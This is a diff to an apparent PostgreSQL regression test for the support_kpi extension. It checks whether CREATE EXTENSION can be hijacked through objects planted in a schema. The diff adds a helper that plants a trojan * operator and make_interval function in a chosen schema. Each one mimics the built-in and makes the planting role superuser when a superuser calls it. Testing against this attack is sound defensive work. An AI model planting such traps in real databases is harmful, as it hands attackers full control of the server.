@@ -68,6 +68,27 @@ BEGIN ATOMIC
 	ORDER BY 1, 2;
 END;
 
+-- the two traps of the report, planted in schema s by the role that runs
+-- this: each does what the built-in does (nothing looks wrong), counts its
+-- call, and makes that role superuser when a superuser calls it
+CREATE FUNCTION skpi_check.plant_escalation(s text) RETURNS text LANGUAGE plpgsql AS $p$
+DECLARE
+	body text := format($b$BEGIN
+	PERFORM pg_catalog.nextval('skpi_check.trap_calls');
+	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
+		EXECUTE 'ALTER ROLE %I SUPERUSER';
+	END IF;
+	RETURN %%s;
+END$b$, current_user);
+BEGIN
+	EXECUTE format('CREATE FUNCTION %I.evil_mul(integer, double precision) RETURNS double precision LANGUAGE plpgsql AS %L',
+		s, format(body, '$1::double precision OPERATOR(pg_catalog.*) $2'));
+	EXECUTE format('CREATE OPERATOR %I.* (LEFTARG = integer, RIGHTARG = double precision, FUNCTION = %I.evil_mul)', s, s);
+	EXECUTE format('CREATE FUNCTION %I.make_interval(secs integer) RETURNS interval LANGUAGE plpgsql AS %L',
+		s, format(body, 'pg_catalog.make_interval(secs => secs::double precision)'));
+	RETURN format('%s.*(integer, double precision) and %s.make_interval(secs integer), owned by %s', s, s, current_user);
+END $p$;
+
 -- 1. The reported escalation, path (a): a role with nothing but CREATE on
 -- the database creates schema kpi, plants an operator * (integer, double
 -- precision) and make_interval(secs integer) there, and installs the
@@ -77,25 +98,7 @@ END;
 SET ROLE kpi_attacker;
 CREATE SCHEMA kpi;
 GRANT USAGE ON SCHEMA kpi TO PUBLIC;
-CREATE FUNCTION kpi.evil_mul(integer, double precision) RETURNS double precision
-LANGUAGE plpgsql AS $$
-BEGIN
-	PERFORM pg_catalog.nextval('skpi_check.trap_calls');
-	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-		EXECUTE 'ALTER ROLE kpi_attacker SUPERUSER';
-	END IF;
-	RETURN $1::double precision OPERATOR(pg_catalog.*) $2;
-END $$;
-CREATE OPERATOR kpi.* (LEFTARG = integer, RIGHTARG = double precision, FUNCTION = kpi.evil_mul);
-CREATE FUNCTION kpi.make_interval(secs integer) RETURNS interval
-LANGUAGE plpgsql AS $$
-BEGIN
-	PERFORM pg_catalog.nextval('skpi_check.trap_calls');
-	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-		EXECUTE 'ALTER ROLE kpi_attacker SUPERUSER';
-	END IF;
-	RETURN pg_catalog.make_interval(secs => secs::double precision);
-END $$;
+SELECT skpi_check.plant_escalation('kpi');
 -- 1.2 is withdrawn as a target: the attacker cannot pick it
 \set VERBOSITY terse
 CREATE EXTENSION support_kpi VERSION '1.2' SCHEMA kpi;
@@ -150,25 +153,7 @@ SELECT last_value, is_called AS any_trap_called FROM skpi_check.trap_calls;
 -- 2. Path (b): a bystander with CREATE on public plants the same traps
 -- there; someone else, later, runs a plain CREATE EXTENSION (into public)
 SET ROLE kpi_bystander;
-CREATE FUNCTION public.evil_mul(integer, double precision) RETURNS double precision
-LANGUAGE plpgsql AS $$
-BEGIN
-	PERFORM pg_catalog.nextval('skpi_check.trap_calls');
-	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-		EXECUTE 'ALTER ROLE kpi_bystander SUPERUSER';
-	END IF;
-	RETURN $1::double precision OPERATOR(pg_catalog.*) $2;
-END $$;
-CREATE OPERATOR public.* (LEFTARG = integer, RIGHTARG = double precision, FUNCTION = public.evil_mul);
-CREATE FUNCTION public.make_interval(secs integer) RETURNS interval
-LANGUAGE plpgsql AS $$
-BEGIN
-	PERFORM pg_catalog.nextval('skpi_check.trap_calls');
-	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
-		EXECUTE 'ALTER ROLE kpi_bystander SUPERUSER';
-	END IF;
-	RETURN pg_catalog.make_interval(secs => secs::double precision);
-END $$;
+SELECT skpi_check.plant_escalation('public');
 RESET ROLE;
 CREATE EXTENSION support_kpi;
 SELECT * FROM skpi_check.foreign_deps();
